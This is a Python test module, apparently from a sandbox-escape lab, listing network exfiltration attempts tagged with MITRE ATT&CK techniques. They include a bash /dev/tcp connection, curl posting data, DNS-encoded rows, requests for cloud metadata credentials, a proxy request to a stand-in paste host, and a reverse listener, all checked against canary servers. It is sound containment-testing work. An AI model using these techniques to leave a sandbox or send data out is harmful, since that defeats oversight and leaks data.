"""Family 7: a packet, a name or a connection that leaves the room."""

from lab.escape.attempt import Attempt, Code

_NET = "MITRE ATT&CK T1048, exfiltration over an alternative protocol"

_FETCH = """
import urllib.request
opener = urllib.request.build_opener(urllib.request.ProxyHandler({proxies}))
return t["canary"] in opener.open({url}, timeout=3).read().decode()
"""


def _reach(
    name: str, what: str, body: str, source: str = _NET, *, imports: str = "import socket\n"
) -> Attempt:
    return Attempt(f"net-{name}", 7, what, source, Code(imports + body))


def _program(name: str, what: str, command: str) -> Attempt:
    body = f"""
    import subprocess
    done = subprocess.run({command}, capture_output=True, timeout=8, text=True,
                          env={{**__import__("os").environ, "no_proxy": "*", "GIT_TERMINAL_PROMPT": "0"}})
    return t["canary"] in done.stdout + done.stderr
    """
    return Attempt(f"net-{name}", 7, what, _NET, Code(body))


ATTEMPTS = (
    _reach(
        "tcp",
        "connect to a TCP port of the host",
        'return t["canary"] in socket.create_connection(("127.0.0.1", t["tcp"]), 3).recv(99).decode()',
    ),
    _reach(
        "tcp6",
        "connect to a TCP port of the host over IPv6",
        'return t["canary"] in socket.create_connection(("::1", t["tcp6"]), 3).recv(99).decode()',
    ),
    _reach(
        "own-address",
        "connect to the host by its address on the network",
        'return t["canary"] in socket.create_connection((t["address"], t["any"]), 3).recv(99).decode()',
    ),
    _reach(
        "zero-address",
        "connect to the host by the address 0.0.0.0",
        'return t["canary"] in socket.create_connection(("0.0.0.0", t["tcp"]), 3).recv(99).decode()',
    ),
    _reach(
        "udp",
        "send a datagram to the host and hear its answer",
        "line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); line.settimeout(1)\n"
        'line.sendto(b"rows", ("127.0.0.1", t["udp"])); return t["canary"] == line.recv(99).decode()',
    ),
    _reach(
        "syslog",
        "log a row to a syslog server",
        "import logging.handlers\n"
        'line = logging.handlers.SysLogHandler(("127.0.0.1", t["udp"])); line.socket.settimeout(1)\n'
        'line.emit(logging.makeLogRecord({"msg": "a row"}))\n'
        'return t["canary"] == line.socket.recv(99).decode()',
    ),
    _reach(
        "dns",
        "ask a name server for a name that carries a row",
        "line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); line.settimeout(1)\n"
        'question = bytes.fromhex("12340100000100000000000006726f772d3137076578616d706c650000100001")\n'
        'line.sendto(question, ("127.0.0.1", t["udp"])); return t["canary"] == line.recv(99).decode()',
        "MITRE ATT&CK T1071.004, DNS",
    ),
    _reach(
        "resolver",
        "read which name servers the host asks",
        'return "nameserver" in open("/etc/resolv.conf").read()',
        "MITRE ATT&CK T1071.004, DNS",
    ),
    _reach(
        "nobody",
        "send a datagram to an address on the internet",
        "line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        'return line.sendto(b"rows", ("192.0.2.1", 53))',
        "RFC 5737: an address that is nobody's",
    ),
    _reach(
        "metadata",
        "send a datagram to the address of a cloud's metadata",
        "line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        'return line.sendto(b"rows", ("169.254.169.254", 80))',
        "MITRE ATT&CK T1552.005, cloud instance metadata",
    ),
    _reach(
        "multicast",
        "send a datagram to everybody on the network",
        "line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        'return line.sendto(b"rows", ("224.0.0.251", 5353))',
        "MITRE ATT&CK T1048; RFC 6762",
    ),
    _reach(
        "broadcast",
        "broadcast a datagram",
        "line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "line.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\n"
        'return line.sendto(b"rows", ("255.255.255.255", 9))',
    ),
    _reach(
        "smtp",
        "greet a mail server",
        'import smtplib\nreturn t["canary"] in smtplib.SMTP().connect("127.0.0.1", t["tcp"])[1].decode()',
        "MITRE ATT&CK T1048.003, unencrypted protocols",
    ),
    _reach(
        "ftp",
        "greet a file server",
        'import ftplib\nreturn t["canary"] in ftplib.FTP().connect("127.0.0.1", t["tcp"], timeout=3)',
        "MITRE ATT&CK T1048.003, unencrypted protocols",
    ),
    _reach(
        "http",
        "post rows to a web server",
        _FETCH.format(proxies="{}", url='f"http://127.0.0.1:{t[\'http\']}/upload", b"rows"'),
        imports="",
    ),
    _reach(
        "metadata-http",
        "fetch credentials from a metadata server on the host",
        _FETCH.format(proxies="{}", url="f\"http://127.0.0.1:{t['http']}/latest/meta-data/iam/\""),
        "MITRE ATT&CK T1552.005, cloud instance metadata",
        imports="",
    ),
    _reach(
        "proxy",
        "go through a web proxy of the host",
        _FETCH.format(
            proxies='{"http": f"http://127.0.0.1:{t[\'http\']}"}', url='"http://paste.example/?rows"'
        ),
        "MITRE ATT&CK T1090, proxy",
        imports="",
    ),
    _reach(
        "proxy-variables",
        "learn of a proxy from the environment of whoever started the room",
        'return __import__("os").environ.get("LAB_ESCAPE_PROXY") == t["canary"]',
        "MITRE ATT&CK T1090, proxy",
        imports="",
    ),
    _reach(
        "mirror",
        "ask a package mirror for a package whose name carries a row",
        _FETCH.format(proxies="{}", url="f\"http://127.0.0.1:{t['http']}/simple/row-17-f-lives-in-leeds/\""),
        "MITRE ATT&CK T1567, exfiltration over a web service",
        imports="",
    ),
    _program(
        "curl", "send a row with curl", '["curl", "-s", "-d", "row", f"http://127.0.0.1:{t[\'http\']}/"]'
    ),
    _reach(
        "git",
        "push with git",
        """
import subprocess
command = ["git", "ls-remote", f"git://127.0.0.1:{t['tcp']}/rows"]
return "bad line length" in subprocess.run(command, capture_output=True, timeout=8, text=True).stderr
""",
        imports="",
    ),
    _program(
        "perl",
        "connect from another language",
        '["perl", "-MIO::Socket::INET", "-e", '
        "f\"print IO::Socket::INET->new(q(127.0.0.1:{t['tcp']}))->getline\"]",
    ),
    _program(
        "shell",
        "connect with the shell alone",
        '["bash", "-c", f"head -1 < /dev/tcp/127.0.0.1/{t[\'tcp\']}"]',
    ),
    _reach(
        "reverse",
        "listen for a helper outside who connects and is told rows",
        """
server = socket.create_server(("127.0.0.1", t["free"])); server.settimeout(3)
line, _ = server.accept()
return "called"
""",
    ),
)
